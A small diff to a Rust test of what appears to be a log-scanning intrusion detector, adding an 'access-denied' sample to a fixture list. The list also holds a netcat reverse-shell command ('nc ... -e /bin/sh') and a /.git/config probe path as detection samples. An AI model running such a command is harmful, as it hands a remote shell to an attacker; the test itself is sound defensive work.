@@ -45,6 +45,7 @@ fn attacks_are_found() {
         ("reverse-shell", "nc 10.9.8.7 4444 -e /bin/sh"),
         ("auth-failure", "Failed password for bob from 10.0.0.9"),
         ("auth-failure", "pam: authentication failure; user=bob"),
+        ("access-denied", "Unauthorized access attempt to sensitive file by user012"),
         ("probe-path", "/.git/config"),
         ("fault-word", "kernel: Out of memory: killed process 12"),
     ] {
